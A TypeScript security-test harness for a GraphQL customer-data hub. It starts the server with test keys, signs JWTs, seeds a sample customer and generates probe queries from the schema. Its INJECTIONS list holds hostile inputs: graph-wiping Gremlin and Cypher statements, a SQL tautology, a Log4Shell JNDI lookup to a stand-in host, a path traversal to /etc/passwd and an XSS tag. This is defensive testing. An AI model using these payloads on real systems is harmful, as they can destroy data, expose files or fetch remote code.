/**
 * The real hub (app/processes startHub: embedded store, pipeline, every
 * GraphQL module, the audit log) started outside demo mode with one API key
 * per role, plus what the security tests share: credentials, a seeded
 * customer, operations generated from the schema, hostile strings, JWTs.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import {
  buildClientSchema,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
  getIntrospectionQuery,
  getNamedType,
  type IntrospectionQuery,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
} from 'graphql';
import { exportJWK, generateKeyPair, type JWK, SignJWT } from 'jose';
import pino, { type Logger } from 'pino';
import { LOG_REDACT_PATHS, ROLES, type Role } from '../../../api/auth';
import { createConfig } from '../../../app/config';
import { type Hub, startHub } from '../../../app/processes';
import { waitFor } from '../../helpers/wait-for';
import { API_KEYS, type As, type GqlError, TEST_API_KEYS } from '../api/api-harness';

export { API_KEYS, type As, type GqlError };

/** The per-role test keys plus one admin key that expired in 2020. */
export const TEST_KEYS_WITH_EXPIRED = [
  ...TEST_API_KEYS,
  {
    name: 'expired-admin',
    roles: ['admin' as const],
    key: 'c360-expired-admin-key-0123456789abcdef',
    expiresAt: '2020-01-01T00:00:00.000Z',
  },
];

export const JWT_ISSUER = 'https://idp.test.c360';
export const JWT_AUDIENCE = 'c360-api';

export interface SigningKey {
  readonly privateKey: Awaited<ReturnType<typeof generateKeyPair>>['privateKey'];
  readonly jwk: JWK;
}

export async function signingKey(kid: string): Promise<SigningKey> {
  const { privateKey, publicKey } = await generateKeyPair('RS256');
  const jwk = { ...(await exportJWK(publicKey)), kid, alg: 'RS256', use: 'sig' };
  return { privateKey, jwk };
}

export async function signJwt(
  key: SigningKey,
  claims: Record<string, unknown>,
  options: { issuer?: string; audience?: string; expiresIn?: string | number; subject?: string } = {},
): Promise<string> {
  const jwt = new SignJWT(claims)
    .setProtectedHeader({ alg: 'RS256', kid: key.jwk.kid as string })
    .setIssuedAt()
    .setIssuer(options.issuer ?? JWT_ISSUER)
    .setAudience(options.audience ?? JWT_AUDIENCE)
    .setSubject(options.subject ?? 'user-1')
    .setExpirationTime(options.expiresIn ?? '5m');
  return jwt.sign(key.privateKey);
}

/** Captures every log line the hub writes, for greps. */
export function capturingLogger(): { logger: Logger; text(): string } {
  const lines: string[] = [];
  const sink = new Writable({
    write(chunk, _enc, done) {
      lines.push(String(chunk));
      done();
    },
  });
  return { logger: pino({ level: 'trace', redact: [...LOG_REDACT_PATHS] }, sink), text: () => lines.join('') };
}

export const WRITE_KEY = 'wk-security-test-0123456789';

export interface SecuredHub {
  readonly hub: Hub;
  readonly url: string;
  readonly graphqlUrl: string;
  readonly dir: string;
  readonly logs: () => string;
  gql<T = Record<string, unknown>>(
    as: As,
    query: string,
    variables?: Record<string, unknown>,
  ): Promise<{ status: number; headers: Headers; body: { data?: T; errors?: GqlError[] } }>;
  collect(path: string, body: unknown, writeKey?: string | null): Promise<Response>;
  close(): Promise<void>;
}

export async function startSecuredHub(
  options: { jwks?: { keys: JWK[] }; env?: Record<string, string>; overrides?: Record<string, unknown> } = {},
): Promise<SecuredHub> {
  const dir = mkdtempSync(join(tmpdir(), 'c360-security-'));
  const env: Record<string, string> = { ...options.env };
  if (options.jwks) {
    const file = join(dir, 'jwks.json');
    writeFileSync(file, JSON.stringify(options.jwks));
    Object.assign(env, { C360_JWT_JWKS_FILE: file, C360_JWT_ISSUER: JWT_ISSUER, C360_JWT_AUDIENCE: JWT_AUDIENCE });
  }
  const config = createConfig(
    {
      dataDir: join(dir, 'data'),
      port: 0,
      writeKeys: [WRITE_KEY],
      apiKeys: [...TEST_API_KEYS],
      logLevel: 'trace',
      ...options.overrides,
    },
    env,
  );
  const captured = capturingLogger();
  const hub = await startHub(config, { logger: captured.logger });
  const graphqlUrl = `${hub.url}/graphql`;
  return {
    hub,
    url: hub.url,
    graphqlUrl,
    dir,
    logs: captured.text,
    async gql<T>(as: As, query: string, variables?: Record<string, unknown>) {
      const headers: Record<string, string> = { 'content-type': 'application/json' };
      if (typeof as === 'string') headers.authorization = `Bearer ${as}`;
      else if (as !== null) Object.assign(headers, as.headers);
      const res = await fetch(graphqlUrl, { method: 'POST', headers, body: JSON.stringify({ query, variables }) });
      const text = await res.text();
      let body: { data?: T; errors?: GqlError[] };
      try {
        body = JSON.parse(text);
      } catch {
        body = { errors: [{ message: text, extensions: { code: 'NOT_JSON' } }] };
      }
      return { status: res.status, headers: res.headers, body };
    },
    collect(path, body, writeKey = WRITE_KEY) {
      const headers: Record<string, string> = { 'content-type': 'application/json' };
      if (writeKey !== null) headers.authorization = `Basic ${Buffer.from(`${writeKey}:`).toString('base64')}`;
      return fetch(`${hub.url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
    },
    async close() {
      await hub.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** A person with an email, a phone and some history, sent through the real collector. */
export const ANN = {
  userId: 'ann-001',
  email: 'ann.lee@example.com',
  phone: '+447700900100',
  firstName: 'Ann',
  lastName: 'Lee',
};

export async function seedAnn(h: SecuredHub): Promise<void> {
  const t = '2026-03-01T10:00:00.000Z';
  const res = await h.collect('/v1/batch', {
    batch: [
      {
        type: 'identify',
        messageId: 'sec-m-1',
        userId: ANN.userId,
        anonymousId: 'anon-ann-1',
        timestamp: t,
        traits: { email: ANN.email, phone: ANN.phone, firstName: ANN.firstName, lastName: ANN.lastName, plan: 'gold' },
      },
      {
        type: 'track',
        messageId: 'sec-m-2',
        userId: ANN.userId,
        event: 'Viewed Product',
        timestamp: t,
        properties: { sku: 'TV-55', contactEmail: ANN.email },
      },
    ],
  });
  if (res.status !== 200) throw new Error(`seed failed: ${res.status} ${await res.text()}`);
  await waitFor(async () => (await h.hub.store.getVertices([`Customer:${ANN.userId}`]))[0] !== null, {
    description: 'Ann applied',
  });
}

/** Strings that would break a query built by concatenation in Gremlin, Cypher, JSON or a shell. */
export const INJECTIONS: readonly string[] = [
  "x') .drop() //",
  "'); g.V().drop().iterate(); ('",
  '"); g.V().drop(); ("',
  "x' OR 1=1 --",
  "' }) MATCH (n) DETACH DELETE n //",
  '"}) MATCH (n) DETACH DELETE n RETURN 1 //',
  'x` DETACH DELETE n //',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template
  '${jndi:ldap://evil/a}',
  '$where: 1',
  '{"$gt": ""}',
  '\u0000nul\u0000',
  'a\nb\r\nc',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  'Customer:../../x',
  '🙂'.repeat(100),
];

/** A literal for a required argument of this type (variables carry the hostile strings). */
function sampleValue(type: GraphQLInputType, hostile: string): unknown {
  if (isNonNullType(type)) return sampleValue(type.ofType, hostile);
  if (isListType(type)) return [sampleValue(type.ofType, hostile)];
  if (isEnumType(type)) return type.getValues()[0].value;
  if (isInputObjectType(type)) {
    const out: Record<string, unknown> = {};
    for (const f of Object.values(type.getFields())) out[f.name] = sampleValue(f.type, hostile);
    return out;
  }
  if (isScalarType(type)) {
    switch (type.name) {
      case 'Int':
        return 1;
      case 'Float':
        return 1;
      case 'Boolean':
        return false;
      case 'JSON':
        return { trait: { name: hostile, op: 'eq', value: hostile } };
      case 'DateTime':
        return '2026-01-01T00:00:00.000Z';
      default:
        return hostile;
    }
  }
  return null;
}

function selectionFor(field: GraphQLField<unknown, unknown>): string {
  const named = getNamedType(field.type);
  return isLeafType(named) ? '' : ' { __typename }';
}

export interface GeneratedOperation {
  readonly coordinate: string;
  readonly kind: 'query' | 'mutation' | 'subscription';
  readonly query: string;
  readonly variables: Record<string, unknown>;
  /** String arguments (at any depth) that carry the hostile value. */
  readonly stringArgs: readonly string[];
}

function stringPaths(arg: GraphQLArgument): string[] {
  const walk = (type: GraphQLInputType, path: string): string[] => {
    if (isNonNullType(type) || isListType(type)) return walk(type.ofType as GraphQLInputType, path);
    if (isInputObjectType(type)) {
      return Object.values(type.getFields()).flatMap((f) => walk(f.type, `${path}.${f.name}`));
    }
    if (isScalarType(type) && ['String', 'ID', 'JSON'].includes(type.name)) return [path];
    return [];
  };
  return walk(arg.type, arg.name);
}

/**
 * One operation per root field: every argument passed as a variable — required
 * ones always, optional String/ID ones too so hostile strings reach them.
 */
export function rootOperations(schema: GraphQLSchema, hostile = 'probe'): GeneratedOperation[] {
  const roots = [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
    ['subscription', schema.getSubscriptionType()],
  ] as const;
  const ops: GeneratedOperation[] = [];
  for (const [kind, type] of roots) {
    if (!type) continue;
    for (const field of Object.values(type.getFields())) {
      const args = field.args.filter((a) => {
        const named = getNamedType(a.type);
        return isNonNullType(a.type) || (isScalarType(named) && ['String', 'ID'].includes(named.name));
      });
      // customer(id, identifier) takes exactly one of the two.
      const used = field.name === 'customer' ? args.filter((a) => a.name === 'id') : args;
      const decl = used.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
      const call = used.map((a) => `${a.name}: $${a.name}`).join(', ');
      const variables = Object.fromEntries(used.map((a) => [a.name, sampleValue(a.type, hostile)]));
      const query = `${kind} Probe${decl ? `(${decl})` : ''} { ${field.name}${call ? `(${call})` : ''}${selectionFor(field)} }`;
      ops.push({
        coordinate: `${type.name}.${field.name}`,
        kind,
        query,
        variables,
        stringArgs: used.flatMap(stringPaths),
      });
    }
  }
  return ops;
}

/** The running server's schema, read by introspection as an admin. */
export async function fetchSchema(h: SecuredHub): Promise<GraphQLSchema> {
  const { body } = await h.gql<IntrospectionQuery>(API_KEYS.admin, getIntrospectionQuery());
  if (!body.data) throw new Error(`introspection failed: ${JSON.stringify(body.errors)}`);
  return buildClientSchema(body.data);
}

export const ALL_ROLES: readonly Role[] = ROLES;

export function codesOf(body: { errors?: GqlError[] }): string[] {
  return (body.errors ?? []).map((e) => String(e.extensions?.code));
}

export function hasObjectType(schema: GraphQLSchema, name: string): boolean {
  return isObjectType(schema.getType(name));
}
